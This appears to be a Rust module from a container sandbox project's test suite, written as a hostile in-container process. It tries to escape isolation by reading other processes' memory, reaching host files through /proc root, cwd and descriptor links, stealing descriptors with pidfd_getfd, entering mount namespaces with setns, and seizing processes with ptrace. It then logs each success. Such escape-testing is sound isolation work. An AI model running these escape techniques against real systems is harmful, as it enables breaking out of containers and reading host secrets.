//! A container's process that attacks whatever it can see while clients are started in its container. In: a file of the host that the
//! container does not have, and which processes to attack. Out: a file of findings, which stays empty if no attack succeeds.

use std::collections::BTreeSet;
use std::ffi::{CString, OsStr};
use std::fs;
use std::io::{Read as _, Write as _};
use std::os::fd::AsRawFd as _;
use std::path::{Path, PathBuf};
use std::process::ExitCode;

use libc::pid_t;

use crate::sandbox::{c_path, processes, status_field};
use crate::sys::{self, at, at_mut};

/// The processes to attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Prey {
    /// All but this process: in a pid namespace of its own, the container is alone.
    Everybody,
    /// Shorefast's own processes: with the host's pid namespace, the container sees all processes.
    Shorefast,
}

/// `secret`: a path on the host; `findings`: where to tell of what was found. Never ends by itself.
pub(crate) fn run(secret: &OsStr, findings: &OsStr, prey: &OsStr) -> ExitCode {
    let prey = if prey == "everybody" { Prey::Everybody } else { Prey::Shorefast };
    let secret = Path::new(secret).strip_prefix("/").unwrap_or(Path::new(secret));
    let counter = Path::new(findings).with_extension("rounds");
    let Ok(findings) = fs::File::options().create(true).append(true).open(findings) else { return ExitCode::FAILURE };
    let mut told = BTreeSet::new();
    let mut rounds = 0u64;
    loop {
        for pid in candidates(prey) {
            if pid == sys::pid() || !is_prey(pid, prey) {
                continue;
            }
            for found in attack(pid, secret, prey) {
                // Once each: a process that is there for long is attacked many times.
                if told.insert(found.clone()) {
                    let _ = (&findings).write_all(format!("{found}\n").as_bytes());
                }
            }
        }
        rounds += 1;
        if rounds.is_multiple_of(64) {
            let _ = fs::write(&counter, rounds.to_string());
        }
    }
}

/// What a client has before it is executed is there for less than a millisecond. Where there are hundreds of processes to look at, only the
/// latest are: the kernel says which number it gave last.
fn candidates(prey: Prey) -> Vec<pid_t> {
    const LATEST: pid_t = 12;
    if prey == Prey::Everybody {
        return processes();
    }
    let load = fs::read_to_string("/proc/loadavg").unwrap_or_default();
    let last: pid_t = load.split_whitespace().last().and_then(|number| number.parse().ok()).unwrap_or(0);
    (last - LATEST..=last).rev().filter(|pid| *pid > 0).collect()
}

fn is_prey(pid: pid_t, prey: Prey) -> bool {
    prey == Prey::Everybody || name(pid).starts_with("shorefast")
}

fn name(pid: pid_t) -> String {
    fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default().trim().to_owned()
}

fn attack(pid: pid_t, secret: &Path, prey: Prey) -> Vec<String> {
    let mut found = Vec::new();
    if prey == Prey::Everybody {
        let field = |name: &str| status_field(&pid.to_string(), name).unwrap_or_default();
        found.push(format!("sees {} with uid {} and capabilities {}", name(pid), field("Uid"), field("CapEff")));
    }
    found.extend(reads_memory(pid));
    found.extend(reads_through_links(pid, secret));
    found.extend(takes_descriptors(pid));
    found.extend(enters(pid, secret));
    found.extend(traces(pid));
    // It may have become another program meanwhile, and that is not what was attacked.
    if is_prey(pid, prey) || prey == Prey::Everybody { found } else { Vec::new() }
}

/// Its root, its directory, and every directory that it has open lead to the host's files, if they are the host's.
fn reads_through_links(pid: pid_t, secret: &Path) -> Vec<String> {
    let proc = PathBuf::from(format!("/proc/{pid}"));
    let open = fs::read_dir(proc.join("fd")).into_iter().flatten().flatten().map(|entry| entry.path());
    let links = [proc.join("root"), proc.join("cwd"), proc.join("cwd/../../../../..")].into_iter().chain(open);
    let wins = |link: PathBuf| {
        let read = fs::read(link.join(secret)).is_ok_and(|content| !content.is_empty());
        let shape = link.strip_prefix(&proc).map_or_else(|_| link.clone(), Path::to_owned);
        read.then(|| format!("read a file of the host through {} of {}", shape.display(), name(pid)))
    };
    links.filter_map(wins).collect()
}

fn takes_descriptors(pid: pid_t) -> Vec<String> {
    let Ok(pidfd) = sys::fd_call(libc::SYS_pidfd_open, [pid as usize, 0]) else { return Vec::new() };
    let take = |number: usize| sys::fd_call(libc::SYS_pidfd_getfd, [pidfd.as_raw_fd() as usize, number, 0]).is_ok();
    if (0..24).any(take) { vec![format!("took a descriptor of {}", name(pid))] } else { Vec::new() }
}

fn reads_memory(pid: pid_t) -> Vec<String> {
    let mut found = Vec::new();
    let maps = fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
    let start = maps.split('-').next().and_then(|text| usize::from_str_radix(text, 16).ok()).unwrap_or(0);
    let mut byte = [0u8; 1];
    let (here, there) = ([at_mut(&mut byte), 1], [start, 1]);
    if sys::call(libc::SYS_process_vm_readv, [pid as usize, at(&here), 1, at(&there), 1, 0]).is_ok() {
        found.push(format!("read the memory of {} by process_vm_readv", name(pid)));
    }
    let opened = fs::File::options().read(true).write(true).open(format!("/proc/{pid}/mem"));
    if opened.is_ok_and(|mut memory| {
        std::io::Seek::seek(&mut memory, std::io::SeekFrom::Start(start as u64)).is_ok() && memory.read(&mut byte).is_ok_and(|n| n == 1)
    }) {
        found.push(format!("read the memory of {} through /proc", name(pid)));
    }
    found
}

/// A process that can enter another mount namespace, and finds the host's there, has the host's files.
fn enters(pid: pid_t, secret: &Path) -> Vec<String> {
    let (theirs, ours) = (format!("/proc/{pid}/ns/mnt"), "/proc/self/ns/mnt");
    if fs::read_link(&theirs).ok() == fs::read_link(ours).ok() {
        return Vec::new();
    }
    let Ok(namespace) = sys::open(&c_path(&theirs), libc::O_RDONLY) else { return Vec::new() };
    let Ok(child) = sys::fork() else { return Vec::new() };
    let Some(child) = child else {
        let entered = sys::call(libc::SYS_setns, [namespace.as_raw_fd() as usize, libc::CLONE_NEWNS as usize]).is_ok();
        let path = CString::new(Path::new("/").join(secret).into_os_string().into_encoded_bytes()).expect("no NUL");
        sys::exit(i32::from(entered && sys::open(&path, libc::O_RDONLY).is_ok()))
    };
    let won = sys::wait(child, 0).is_some_and(|status| libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 1);
    if won { vec![format!("entered the host's mount namespace through {}", name(pid))] } else { Vec::new() }
}

fn traces(pid: pid_t) -> Vec<String> {
    let seized = sys::call(libc::SYS_ptrace, [libc::PTRACE_SEIZE as usize, pid as usize, 0, 0]).is_ok();
    if !seized {
        return Vec::new();
    }
    let found = vec![format!("traced {}", name(pid))];
    let _ = sys::call(libc::SYS_ptrace, [libc::PTRACE_INTERRUPT as usize, pid as usize, 0, 0]);
    let _ = sys::wait(pid, libc::__WALL);
    let _ = sys::call(libc::SYS_ptrace, [libc::PTRACE_DETACH as usize, pid as usize, 0, 0]);
    found
}
